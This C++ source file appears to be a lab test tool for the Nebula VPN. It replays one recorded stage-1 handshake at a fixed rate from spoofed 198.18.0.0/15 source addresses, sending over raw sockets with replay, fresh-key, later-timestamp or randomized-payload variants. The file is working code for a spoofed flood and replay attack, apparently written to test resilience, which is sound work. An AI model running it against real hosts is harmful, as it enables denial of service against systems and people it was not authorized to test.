// SPDX-License-Identifier: Apache-2.0
// Sends one recorded stage 1 again and again at a steady rate, each from another source address of
// 198.18.0.0/15 and with bytes of it made up: what a spoofer can do who has seen one handshake.
//
//   stage1_flood DEVICE DESTINATION-MAC DESTINATION-IP VARIANT RATE SECONDS <stage-1-as-hex
//
// VARIANT: `replay` leaves the packet as it is, `fresh` draws another ephemeral key for each copy,
// `newer` also makes each copy's Time later than the one before, `garbage` draws all that follows
// the Nebula header. Prints how many the kernel took.
#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <iostream>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

constexpr std::size_t kBatch = 64;
constexpr std::size_t kHeaders = 14 + 20 + 8;  // Ethernet, IPv4, UDP
constexpr std::size_t kNebula = 16;
constexpr std::size_t kEphemeral = 32;

using Frame = std::vector<std::uint8_t>;

void put16(std::uint8_t* at, std::size_t value) {
  at[0] = static_cast<std::uint8_t>(value >> 8);
  at[1] = static_cast<std::uint8_t>(value);
}

std::uint16_t ip_checksum(const std::uint8_t* header) {
  std::uint32_t sum = 0;
  for (int i = 0; i < 20; i += 2) sum += static_cast<std::uint32_t>(header[i] << 8 | header[i + 1]);
  while ((sum >> 16) != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

std::vector<std::uint8_t> from_hex(const std::string& text) {
  std::vector<std::uint8_t> bytes;
  for (std::size_t i = 0; i + 1 < text.size(); i += 2)
    bytes.push_back(static_cast<std::uint8_t>(std::stoul(text.substr(i, 2), nullptr, 16)));
  return bytes;
}

Frame frame_to(const char* mac, const char* destination, const std::vector<std::uint8_t>& packet) {
  Frame frame(kHeaders + packet.size());
  std::array<unsigned, 6> octets{};
  if (std::sscanf(mac, "%x:%x:%x:%x:%x:%x", &octets[0], &octets[1], &octets[2], &octets[3],
                  &octets[4], &octets[5]) != 6)
    return {};
  std::copy(octets.begin(), octets.end(), frame.begin());
  frame[6] = 2;  // a locally administered source
  put16(&frame[12], ETH_P_IP);
  std::uint8_t* const ip = &frame[14];
  ip[0] = 0x45;
  put16(ip + 2, frame.size() - 14);
  ip[8] = 64;
  ip[9] = IPPROTO_UDP;
  if (inet_pton(AF_INET, destination, ip + 16) != 1) return {};
  put16(ip + 20, 4242);
  put16(ip + 22, 4242);
  put16(ip + 24, frame.size() - 34);
  std::copy(packet.begin(), packet.end(), frame.begin() + kHeaders);
  return frame;
}

// The payload's field 5, a varint of nine bytes; 0: not found.
std::size_t find_time(const Frame& frame) {
  for (std::size_t at = frame.size() - 10; at > kHeaders + kNebula; --at)
    if (frame[at] == 0x28 && frame[at + 9] < 0x80 &&
        std::all_of(&frame[at + 1], &frame[at + 9], [](std::uint8_t byte) { return byte >= 0x80; }))
      return at + 1;
  return 0;
}

// Up to 73 minutes ahead, and counting in steps of 16 us.
void set_time(Frame& frame, std::size_t at, std::uint64_t number) {
  for (std::size_t i = 0; i < 3; ++i)
    frame[at + 2 + i] = static_cast<std::uint8_t>(0x80 | (number >> (7 * i)));
  frame[at + 5] = 0xff;
}

void vary(Frame& frame, const std::string& variant, std::mt19937_64& random) {
  const std::uint64_t source = random();
  std::uint8_t* const ip = &frame[14];
  ip[12] = 198;
  ip[13] = static_cast<std::uint8_t>(18 | (source & 1));
  ip[14] = static_cast<std::uint8_t>(source >> 8);
  ip[15] = static_cast<std::uint8_t>(source >> 16);
  put16(ip + 10, 0);
  put16(ip + 10, ip_checksum(ip));
  if (variant == "replay") return;
  const std::size_t begin = kHeaders + kNebula;
  const std::size_t end = variant != "garbage" ? begin + kEphemeral : frame.size();
  for (std::size_t i = begin; i < end; ++i) frame[i] = static_cast<std::uint8_t>(random());
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7) {
    std::cerr << "stage1_flood DEVICE MAC IP replay|fresh|newer|garbage RATE SECONDS <HEX\n";
    return 2;
  }
  std::string hex;
  std::cin >> hex;
  const auto packet = from_hex(hex);
  const Frame first = frame_to(argv[2], argv[3], packet);
  if (packet.size() < kNebula + kEphemeral || first.empty()) return 2;
  const std::string variant = argv[4];
  const std::size_t time_at = find_time(first);
  if (variant == "newer" && time_at == 0) return 2;
  const double rate = std::atof(argv[5]);
  const double seconds = std::atof(argv[6]);

  const int raw = socket(AF_PACKET, SOCK_RAW, 0);
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  if (raw < 0 || to.sll_ifindex == 0 ||
      bind(raw, reinterpret_cast<sockaddr*>(&to), sizeof(to)) != 0) {
    std::perror("stage1_flood");
    return 1;
  }
  std::mt19937_64 random(1);
  std::vector<Frame> frames(kBatch, first);
  std::array<iovec, kBatch> parts{};
  std::array<mmsghdr, kBatch> messages{};
  for (std::size_t i = 0; i < kBatch; ++i) {
    parts[i] = {frames[i].data(), frames[i].size()};
    messages[i].msg_hdr.msg_iov = &parts[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  const auto begin = std::chrono::steady_clock::now();
  std::uint64_t sent = 0;
  std::uint64_t due_sent = 0;
  for (;;) {
    const double passed =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - begin).count();
    if (passed >= seconds) break;
    const auto due = static_cast<std::uint64_t>(passed * rate);
    if (due < due_sent + kBatch) {
      std::this_thread::sleep_for(std::chrono::microseconds(500));
      continue;
    }
    for (std::size_t i = 0; i < kBatch; ++i) {
      vary(frames[i], variant, random);
      if (variant == "newer") set_time(frames[i], time_at, due_sent + i);
    }
    const int taken = sendmmsg(raw, messages.data(), kBatch, 0);
    if (taken > 0) sent += static_cast<std::uint64_t>(taken);
    due_sent += kBatch;
  }
  std::cout << sent << "\n";
  close(raw);
  return 0;
}
